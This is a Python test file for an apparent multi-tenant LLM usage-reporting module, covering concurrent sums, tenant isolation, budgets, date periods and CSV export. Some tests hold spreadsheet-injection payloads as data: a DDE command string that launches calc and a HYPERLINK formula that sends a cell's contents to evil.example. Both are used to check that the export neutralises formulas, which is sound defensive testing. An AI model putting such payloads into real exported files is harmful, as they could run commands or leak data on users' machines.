"""Usage: sums that are exact whoever writes at once, reports of one business only, and a CSV that no spreadsheet runs."""

from __future__ import annotations

import asyncio
import csv
import io
import random
from datetime import date, timedelta
from uuid import UUID

import pytest

from konstruct.db.database import Database
from konstruct.db.scope import TenantScope
from konstruct.kit.ids import uuid7
from konstruct.llm import usage_reports, usage_reports_csv
from konstruct.llm.port import CallRecord, Usage
from konstruct.llm.usage_reports import Period, PeriodError, Report, Sums
from konstruct.llm.usage_repository import NO_ACCOUNT, record_calls
from konstruct.tenants.vault import Vault
from tests.support.queueing import connect, make_conversations

Tenants = tuple[TenantScope, TenantScope]
PRICED = CallRecord("openai_compat", "gpt-4o", "ok", Usage(1000, 600, 200), 3_500, 812, 95)
UNPRICED = CallRecord("openai_compat", "house-model", "ok", Usage(10, 0, 5), None, 30, 3)
FAILED = CallRecord("openai_compat", "gpt-4o", "timeout", Usage(), None, 30_000, None)
TODAY = date(2026, 3, 31)

_TRUTH = """
SELECT usage_day(l.tenant_id, l.created_at) AS day, coalesce(c.account_id, $2) AS account_id, l.backend,
  left(l.model, 200) AS model,
  count(*) AS calls, count(*) FILTER (WHERE l.outcome <> 'ok') AS failed_calls,
  count(*) FILTER (WHERE l.cost_micro IS NULL) AS unknown_cost_calls, coalesce(sum(l.input_tokens), 0) AS input_tokens,
  coalesce(sum(l.cached_tokens), 0) AS cached_tokens, coalesce(sum(l.output_tokens), 0) AS output_tokens,
  coalesce(sum(l.cost_micro), 0)::bigint AS cost_micro
FROM llm_calls l LEFT JOIN turns t ON t.tenant_id = l.tenant_id AND t.id = l.turn_id
LEFT JOIN conversations c ON c.tenant_id = t.tenant_id AND c.id = t.conversation_id
WHERE l.tenant_id = $1 GROUP BY 1, 2, 3, 4 ORDER BY 1, 2, 3, 4
"""
_KEPT = """
SELECT day, account_id, backend, model, sum(calls)::bigint AS calls, sum(failed_calls)::bigint AS failed_calls,
  sum(unknown_cost_calls)::bigint AS unknown_cost_calls, sum(input_tokens)::bigint AS input_tokens,
  sum(cached_tokens)::bigint AS cached_tokens, sum(output_tokens)::bigint AS output_tokens, sum(cost_micro)::bigint AS cost_micro
FROM usage_days WHERE tenant_id = $1 GROUP BY 1, 2, 3, 4 ORDER BY 1, 2, 3, 4
"""
_TRUTH_BY_CONVERSATION = """
SELECT t.conversation_id, count(*) AS calls, count(*) FILTER (WHERE l.cost_micro IS NULL) AS unknown,
  coalesce(sum(l.input_tokens), 0)::bigint AS input, coalesce(sum(l.cost_micro), 0)::bigint AS cost
FROM llm_calls l JOIN turns t ON t.tenant_id = l.tenant_id AND t.id = l.turn_id WHERE l.tenant_id = $1 GROUP BY 1 ORDER BY 1
"""
_KEPT_BY_CONVERSATION = """
SELECT conversation_id, sum(calls)::bigint AS calls, sum(unknown_cost_calls)::bigint AS unknown,
  sum(input_tokens)::bigint AS input, sum(cost_micro)::bigint AS cost
FROM usage_conversations WHERE tenant_id = $1 GROUP BY 1 ORDER BY 1
"""


async def _turns(db: Database, vault: Vault, scope: TenantScope, count: int) -> list[UUID]:
    """Return as many running turns, each in a conversation of its own, of one account."""
    account = await connect(db, vault, scope)
    conversations = await make_conversations(db, scope, account, count)
    turns = [uuid7() for _ in conversations]
    async with db.tenant(scope) as session:
        await session.execute(
            "INSERT INTO turns (tenant_id, id, conversation_id, agent_id, persona_version, epoch, owner_epoch, deadline_at)"
            " SELECT $1, n.turn, n.conversation, a.id, a.persona_version, 1, 0, now()"
            " FROM unnest($2::uuid[], $3::uuid[]) AS n (turn, conversation), agents a WHERE a.tenant_id = $1",
            scope.tenant_id,
            turns,
            conversations,
        )
    return turns


async def _record(db: Database, scope: TenantScope, turn: UUID | None, *calls: CallRecord) -> None:
    async with db.tenant(scope) as session:
        await record_calls(session, turn, 0, calls)


async def _report(db: Database, scope: TenantScope, first: str = "", last: str = "") -> Report:
    async with db.tenant(scope) as session:
        return await usage_reports.read(session, first, last)


async def _pairs(db: Database, scope: TenantScope) -> list[tuple[list[tuple[object, ...]], list[tuple[object, ...]]]]:
    """What the calls add up to, beside what was kept of them."""
    async with db.tenant(scope) as session:
        truth = await session.fetch(_TRUTH, scope.tenant_id, NO_ACCOUNT)
        kept = await session.fetch(_KEPT, scope.tenant_id)
        by_conversation = [
            [tuple(row) for row in await session.fetch(sql, scope.tenant_id)]
            for sql in (_TRUTH_BY_CONVERSATION, _KEPT_BY_CONVERSATION)
        ]
    return [([tuple(row) for row in truth], [tuple(row) for row in kept]), (by_conversation[0], by_conversation[1])]


async def test_the_sums_are_exact_however_many_write_at_once(db: Database, house_vault: Vault, tenants: Tenants) -> None:
    chance = random.Random(7)
    work = []
    for scope in tenants:
        turns: list[UUID | None] = [None, *await _turns(db, house_vault, scope, 12)]
        for _ in range(60):
            calls = [chance.choice((PRICED, UNPRICED, FAILED)) for _ in range(chance.randint(1, 4))]
            work.append(_record(db, scope, chance.choice(turns), *calls))
    chance.shuffle(work)
    await asyncio.gather(*work)
    for scope in tenants:
        for truth, kept in await _pairs(db, scope):
            assert kept == truth
            assert len(truth) > 1


async def test_nothing_is_counted_of_what_is_not_stored(db: Database, house_vault: Vault, tenants: Tenants) -> None:
    (turn,) = await _turns(db, house_vault, tenants[0], 1)
    with pytest.raises(RuntimeError):
        async with db.tenant(tenants[0]) as session:
            await record_calls(session, turn, 0, [PRICED])
            raise RuntimeError
    assert (await _report(db, tenants[0])).total == Sums()


async def test_a_model_of_any_name_can_be_counted(db: Database, tenants: Tenants) -> None:
    hostile = CallRecord("openai_compat", "=cmd|' /C calc'!A0" * 1000, "ok", Usage(1, 0, 1), None, 1, 1)
    await _record(db, tenants[0], None, hostile, hostile)
    ((name, sums),) = (await _report(db, tenants[0])).by_model
    assert (len(name), sums.calls) == (200, 2)


async def test_an_unknown_cost_is_unknown_and_never_nothing(db: Database, house_vault: Vault, tenants: Tenants) -> None:
    first, second = await _turns(db, house_vault, tenants[0], 2)
    await _record(db, tenants[0], first, UNPRICED, UNPRICED)
    report = await _report(db, tenants[0])
    assert (report.total.cost_micro, report.total.unknown_cost_calls) == (None, 2)
    assert report.dearest[0].sums.cost_micro is None
    await _record(db, tenants[0], second, PRICED, FAILED)
    report = await _report(db, tenants[0])
    assert (report.total.cost_micro, report.total.unknown_cost_calls, report.total.failed_calls) == (3_500, 3, 1)
    assert [each.sums.cost_micro for each in report.dearest] == [3_500, None]
    assert Sums().cost_micro == 0


async def test_a_report_holds_its_own_days_and_its_own_business(db: Database, house_vault: Vault, tenants: Tenants) -> None:
    alpha, beta = tenants
    (turn,) = await _turns(db, house_vault, alpha, 1)
    (other,) = await _turns(db, house_vault, beta, 1)
    await _record(db, alpha, turn, PRICED)
    await _record(db, alpha, None, UNPRICED)
    await _record(db, beta, other, PRICED, PRICED, PRICED)
    async with db.tenant(alpha) as session:
        await session.execute(
            "INSERT INTO usage_days SELECT tenant_id, day - 40, account_id, backend, model, shard, 7, 0, 0, 0, 0, 0, 9"
            " FROM usage_days WHERE tenant_id = $1 AND model = 'gpt-4o'",
            alpha.tenant_id,
        )
    report = await _report(db, alpha)
    assert (report.total.calls, report.total.cost_micro) == (2, 3_500)
    assert list(report.by_day) == [report.today]
    assert {kind for _, kind in report.by_day_and_kind} == {"slack", None}
    assert [(account.kind, sums.calls) for account, sums in report.by_account] == [("slack", 1), (None, 1)]
    assert len(report.dearest) == 1
    long_ago = report.today - timedelta(days=40)
    older = await _report(db, alpha, str(long_ago), str(long_ago))
    assert (older.total.calls, older.total.cost_micro, older.period.days) == (7, 9, [long_ago])


async def test_the_budget_of_the_month(db: Database, tenants: Tenants) -> None:
    assert (await _report(db, tenants[0])).budget.share is None
    async with db.tenant(tenants[0]) as session:
        await session.execute(
            "INSERT INTO llm_budgets (tenant_id, period, limit_micro, spent_micro)"
            " VALUES ($1, date_trunc('month', now() AT TIME ZONE 'UTC')::date, 1000, 250)",
            tenants[0].tenant_id,
        )
    budget = (await _report(db, tenants[0])).budget
    assert (budget.limit_micro, budget.spent_micro, budget.share) == (1000, 250, 0.25)
    assert usage_reports.MonthBudget(0, 0, 0).share == 1.0
    assert (await _report(db, tenants[1])).budget.limit_micro is None


def test_a_period_is_what_was_asked_for_or_the_last_thirty_days() -> None:
    assert Period.of("", "", TODAY) == Period(date(2026, 3, 2), TODAY)
    assert len(Period.of("", "", TODAY).days) == 30
    assert Period.of("2026-01-05", " 2026-01-05 ", TODAY) == Period(date(2026, 1, 5), date(2026, 1, 5))
    assert Period.of("", "2026-01-31", TODAY).first == date(2026, 1, 2)
    assert len(Period.of("2025-03-31", "2026-03-31", TODAY).days) == 366


@pytest.mark.parametrize(
    ("first", "last"),
    [("2026-03-02", "2026-03-01"), ("2024-01-01", "2026-01-01"), ("31.3.2026", ""), ("", "x"), ("0001-01-01", "0001-01-02")],
)
def test_a_period_that_is_none_is_refused(first: str, last: str) -> None:
    with pytest.raises(PeriodError):
        Period.of(first, last, TODAY)


async def _csv(db: Database, scope: TenantScope, by: usage_reports_csv.By) -> list[dict[str, str]]:
    async with db.tenant(scope) as session:
        period = await usage_reports.period_of(session, "", "")
    text = "".join([piece async for piece in usage_reports_csv.lines(db, scope, period, by)])
    assert "\r\n" in text
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def test_the_file_says_what_the_report_says(
    db: Database, house_vault: Vault, tenants: Tenants, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(usage_reports_csv, "PAGE", 2)
    turns = await _turns(db, house_vault, tenants[0], 5)
    for turn in turns[:4]:
        await _record(db, tenants[0], turn, PRICED)
    await _record(db, tenants[0], turns[4], UNPRICED)
    days = await _csv(db, tenants[0], "day")
    assert len(days) == 30
    assert (days[-1]["calls"], days[-1]["known_cost_usd"], days[-1]["calls_with_unknown_cost"]) == ("5", "0.014000", "1")
    assert (days[0]["calls"], days[0]["known_cost_usd"]) == ("0", "0.000000")
    conversations = await _csv(db, tenants[0], "conversation")
    assert sorted(row["known_cost_usd"] for row in conversations) == ["", "0.003500", "0.003500", "0.003500", "0.003500"]
    assert len({row["conversation_id"] for row in conversations}) == 5
    (channel,) = await _csv(db, tenants[0], "channel")
    assert (channel["channel"], channel["input_tokens"], channel["cached_input_tokens"]) == ("slack", "4010", "2400")
    assert await _csv(db, tenants[1], "conversation") == []
    assert await _csv(db, tenants[1], "channel") == []


async def test_a_name_is_no_formula_in_the_file(db: Database, house_vault: Vault, tenants: Tenants) -> None:
    (turn,) = await _turns(db, house_vault, tenants[0], 1)
    name = '=HYPERLINK("https://evil.example?x="&A1,"click, ""here""")\nsecond line'
    async with db.tenant(tenants[0]) as session:
        await session.execute(
            "INSERT INTO contacts (tenant_id, id, account_id, external_id, display_name)"
            " SELECT tenant_id, $2, account_id, audience_key, $3 FROM conversations WHERE tenant_id = $1",
            tenants[0].tenant_id,
            uuid7(),
            name,
        )
    await _record(db, tenants[0], turn, PRICED)
    (row,) = await _csv(db, tenants[0], "conversation")
    assert (row["name"], row["person"]) == (f"'{name}", "U1")


@pytest.mark.parametrize(
    ("cell", "written"),
    [("=1+1", "'=1+1"), ("+49", "'+49"), ("-1", "'-1"), ("@x", "'@x"), ("\t=1", "'\t=1"), ("a=1", "a=1"), ("", "")],
)
def test_cells_that_could_be_formulas_are_text(cell: str, written: str) -> None:
    assert usage_reports_csv.safe(cell) == written
